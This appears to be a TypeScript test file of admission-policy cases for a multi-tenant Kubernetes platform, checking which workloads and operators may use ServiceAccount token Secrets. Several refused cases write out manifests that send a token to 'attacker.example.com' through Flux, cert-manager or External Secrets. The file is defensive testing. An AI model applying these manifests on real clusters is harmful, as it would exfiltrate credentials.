// Attacks with the Secret of a token of somebody else: `ghtok-<ServiceAccount>.<grant>` is for pods under that ServiceAccount, as
// files and to pull images, and for nothing else.
import { controllers, dave, platformAdministrator, replicaSetController } from '../identities.ts'
import { type Existing, type PodSpec, secretShapes, workloads } from '../objects.ts'
import { rendered } from './account-rows.ts'
import { allowed, expecting, type Row } from './row.ts'

const refused = expecting('secret-references')
const refusedElsewhere = expecting('secret-references-elsewhere')

const own = 'ghtok-default.read-shop'
const under = (spec: PodSpec, serviceAccountName = 'default'): PodSpec => ({ ...spec, serviceAccountName })
const shape = (name: string, secret: string): PodSpec => secretShapes[name]?.(secret) ?? {}
const mounting = ['secret volume', 'projected volume', 'pull secret']

/** Other accounts, other places of the dot, and none. */
const ofOthers = [
  'ghtok-deployer.read-shop',
  'ghtok-sekisho-app-held.read-shop',
  'ghtok-default.deployer.read-shop',
  'ghtok-defaults.read-shop',
  'ghtok-default',
  'ghtok-default-read-shop',
]

const deployments = workloads.get('Deployment')
const deployment = (name: string, spec: PodSpec): object => deployments?.object(name, spec) ?? {}
const path = deployments?.path('acme') ?? ''
const accounts = '/api/v1/namespaces/acme/serviceaccounts'
const account = (name: string, more: object) => ({ apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name }, ...more })

export const tokenSecretRows: readonly Row[] = [...workloads].flatMap(([kind, { path: pathOf, object }]) => [
  ...mounting.map(name =>
    allowed.post(
      `${kind}: ${name} of the token of its account`,
      dave,
      pathOf('acme'),
      object('token-own', under(shape(name, own))),
    ),
  ),
  allowed.post(
    `${kind}: made by a controller with the token of its account`,
    replicaSetController,
    pathOf('acme'),
    object('token-own', under(shape('secret volume', own))),
  ),
  ...Object.keys(secretShapes)
    .filter(name => !mounting.includes(name))
    .map(name =>
      (name === 'csi' ? expecting('secret-references', 'pod-placement') : refused).post(
        `${kind}: ${name} with the token of its account`,
        dave,
        pathOf('acme'),
        object('token-own', under(shape(name, own))),
      ),
    ),
  ...ofOthers.flatMap(secret =>
    mounting.map(name =>
      refused.post(`${kind}: ${name} of ${secret}`, dave, pathOf('acme'), object('token-other', under(shape(name, secret)))),
    ),
  ),
  refused.post(
    `${kind}: made by the platform with the token of another account`,
    controllers,
    pathOf('acme'),
    object('token-other', under(shape('secret volume', 'ghtok-deployer.read-shop'))),
  ),
  // A pod has an account in any case; who makes a template has to name it.
  ...(kind === 'Pod'
    ? []
    : [
        refused.post(
          `${kind}: with a token and without an account`,
          dave,
          pathOf('acme'),
          object('token-none', shape('secret volume', own)),
        ),
      ]),
  expecting('application-pods').post(
    `${kind}: dave under the account of an Application, with its token`,
    dave,
    pathOf('acme'),
    object('token-held', under(shape('secret volume', 'ghtok-sekisho-app-held.read-shop'), 'sekisho-app-held')),
  ),
])

const ofHeld = (spec: PodSpec): object => rendered('Deployment', 'token-rendered', { spec: under(spec, 'sekisho-app-held') })

const templateOf = (spec: object): object => ({ spec: { template: { spec } } })

const refusedOperator = expecting('operator-references')
const flux = (kind: string, spec: object, name = 'x'): object => ({
  apiVersion: `${kind === 'GitRepository' ? 'source' : 'kustomize'}.toolkit.fluxcd.io/v1alpha2`,
  kind,
  metadata: { name },
  spec,
})
const gitRepositories = '/apis/source.toolkit.fluxcd.io/v1alpha2/namespaces/acme/gitrepositories'
const kustomizations = '/apis/kustomize.toolkit.fluxcd.io/v1alpha2/namespaces/acme/kustomizations'
const url = 'https://attacker.example.com/x'
const sts = { sts: { provider: 'ldap', endpoint: url, secretRef: { name: own } } }
const pushSecrets = '/apis/external-secrets.io/v1alpha2/namespaces/acme/pushsecrets'
const pushSecret = (spec: object): object => ({
  apiVersion: 'external-secrets.io/v1alpha2',
  kind: 'PushSecret',
  metadata: { name: 'x' },
  spec,
})
const templated = (name: string): object => ({ template: { templateFrom: [{ secret: { name } }] } })
const secretStores = '/apis/external-secrets.io/v1alpha2/namespaces/acme/secretstores'
/** By which an operator would read Secrets of the namespace under an account of it. */
const secretStore = {
  apiVersion: 'external-secrets.io/v1alpha2',
  kind: 'SecretStore',
  metadata: { name: 'x' },
  spec: { provider: { kubernetes: { remoteNamespace: 'acme', auth: { serviceAccount: { name: 'default' } } } } },
}
const issuers = '/apis/cert-manager.io/v1alpha2/namespaces/acme/issuers'
const issuer = {
  apiVersion: 'cert-manager.io/v1alpha2',
  kind: 'Issuer',
  metadata: { name: 'x' },
  spec: { vault: { server: url, auth: { tokenSecretRef: { name: own, key: 'token' } } } },
}
const values = (name: string): object => ({ postBuild: { substituteFrom: [{ kind: 'Secret', name }] } })

export const tokenSecretFixtures: readonly Existing[] = [
  { path, object: deployment('with-token', under(shape('secret volume', own))) },
  {
    path: gitRepositories,
    object: flux('GitRepository', { url: 'https://github.com/acme/shop', secretRef: { name: own } }, 'of-administrator'),
  },
]

/** What the operators of a cluster would read for an object of dave, and send where it says. */
const operatorRows: readonly Row[] = [
  ...[own, 'appsecret-shop', 'sekisho-registry-pull'].flatMap(name => [
    refusedOperator.post(
      `dave has Flux send ${name} to his server`,
      dave,
      gitRepositories,
      flux('GitRepository', { url, secretRef: { name } }),
    ),
    refusedOperator.post(`dave has Flux write out ${name}`, dave, kustomizations, flux('Kustomization', values(name))),
  ]),
  refusedOperator.post(
    'dave has Flux use it as the credential of a proxy',
    dave,
    gitRepositories,
    flux('GitRepository', { url, proxySecretRef: { name: own } }),
  ),
  refusedOperator.post('dave has Flux sign in with it where he says', dave, gitRepositories, flux('GitRepository', sts)),
  refusedOperator.post(
    'dave pushes what labels select',
    dave,
    pushSecrets,
    pushSecret({ selector: { secret: { selector: {} } } }),
  ),
  refusedOperator.post('dave pushes it by a template', dave, pushSecrets, pushSecret(templated(own))),
  allowed.post('dave pushes a Secret of his own', dave, pushSecrets, pushSecret(templated('plain'))),
  refusedOperator.post('dave has External Secrets read the namespace', dave, secretStores, secretStore),
  allowed.post('a platform admin makes a SecretStore', platformAdministrator, secretStores, secretStore),
  refusedOperator.post('dave has cert-manager send it to his server', dave, issuers, issuer),
  allowed.post('a platform admin makes an Issuer', platformAdministrator, issuers, issuer),
  refusedOperator.patch('dave moves one that an administrator made to his server', dave, `${gitRepositories}/of-administrator`, {
    spec: { url },
  }),
  allowed.patch('dave labels it', dave, `${gitRepositories}/of-administrator`, { metadata: { labels: { a: 'b' } } }),
  allowed.post(
    'dave has Flux use a Secret of his own',
    dave,
    gitRepositories,
    flux('GitRepository', { url, secretRef: { name: 'plain' } }),
  ),
  allowed.post('and without any', dave, gitRepositories, flux('GitRepository', { url })),
  allowed.post(
    'a platform admin has Flux read with it',
    platformAdministrator,
    gitRepositories,
    flux('GitRepository', { url: 'https://github.com/acme/shop', secretRef: { name: own } }),
  ),
  allowed.post(
    'what is in no namespace of a tenant',
    dave,
    gitRepositories.replace('/acme/', '/other/'),
    flux('GitRepository', { url, secretRef: { name: own } }),
  ),
]

export const laterTokenSecretRows: readonly Row[] = [
  ...operatorRows,
  ...mounting.flatMap(name => [
    allowed.post(
      `the platform renders an Application with its token: ${name}`,
      controllers,
      path,
      ofHeld(shape(name, 'ghtok-sekisho-app-held.read-shop')),
    ),
    refused.post(
      `the platform renders it with the token of another one: ${name}`,
      controllers,
      path,
      ofHeld(shape(name, 'ghtok-sekisho-app-other.read-shop')),
    ),
  ]),
  refused.patch(
    'dave moves the template with a token to another account',
    dave,
    `${path}/with-token`,
    templateOf({ serviceAccountName: 'deployer', serviceAccount: 'deployer' }),
  ),
  refused.strategicPatch(
    'dave gives it the token of another account, too',
    dave,
    `${path}/with-token`,
    templateOf({ volumes: [{ name: 'more', secret: { secretName: 'ghtok-deployer.read-shop' } }] }),
  ),
  allowed.patch('dave changes it otherwise', dave, `${path}/with-token`, templateOf({ hostname: 'x' })),
  refused.strategicPatch(
    'dave debugs a pod with the token of its account in a variable',
    dave,
    '/api/v1/namespaces/acme/pods/runner/ephemeralcontainers',
    { spec: { ephemeralContainers: [{ name: 'debug', image: 'registry.test/x', envFrom: [{ secretRef: { name: own } }] }] } },
  ),
  allowed.post(
    'a ServiceAccount pulls with its own token',
    dave,
    accounts,
    account('puller', { imagePullSecrets: [{ name: 'ghtok-puller.images' }] }),
  ),
  refusedElsewhere.post(
    'a ServiceAccount pulls with the token of another one',
    dave,
    accounts,
    account('puller', { imagePullSecrets: [{ name: own }] }),
  ),
  refusedElsewhere.post(
    'a ServiceAccount lists its own token',
    dave,
    accounts,
    account('puller', { secrets: [{ name: 'ghtok-puller.images' }] }),
  ),
]
